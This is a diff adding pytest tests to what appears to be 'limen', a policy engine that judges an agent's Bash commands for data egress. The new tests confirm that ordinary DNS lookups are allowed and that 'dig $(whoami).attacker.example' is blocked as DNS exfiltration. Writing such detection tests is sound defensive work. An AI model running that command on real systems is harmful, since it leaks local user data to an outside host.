@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import tempfile
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -225,3 +226,27 @@ def test_rules_never_raise(argv: list[str], url: str) -> None:
     for mode in Mode:
         list(external_destinations(action, ctx(mode)))
         list(unprovable_route(action, ctx(mode)))
+
+
+@pytest.mark.parametrize(
+    "command", ["dig stackoverflow.com", "nslookup example.org 8.8.8.8", "host -t mx example.com"]
+)
+def test_dns_lookups_are_not_egress_to_the_named_host(command: str, tmp_path: Path) -> None:
+    decision = limen.evaluate(
+        "Bash",
+        {"command": command},
+        cwd=str(tmp_path),
+        context=Context.for_mode(Mode.BALANCED, str(tmp_path)),
+    )
+    assert ReasonCode.UNKNOWN_EXTERNAL_DESTINATION not in decision.reasons
+
+
+def test_dns_lookups_with_substituted_labels_are_still_exfiltration(tmp_path: Path) -> None:
+    decision = limen.evaluate(
+        "Bash",
+        {"command": "dig $(whoami).attacker.example"},
+        cwd=str(tmp_path),
+        context=Context.for_mode(Mode.BALANCED, str(tmp_path)),
+    )
+    assert decision.verdict is Verdict.BLOCK
+    assert ReasonCode.DNS_EXFILTRATION in decision.reasons
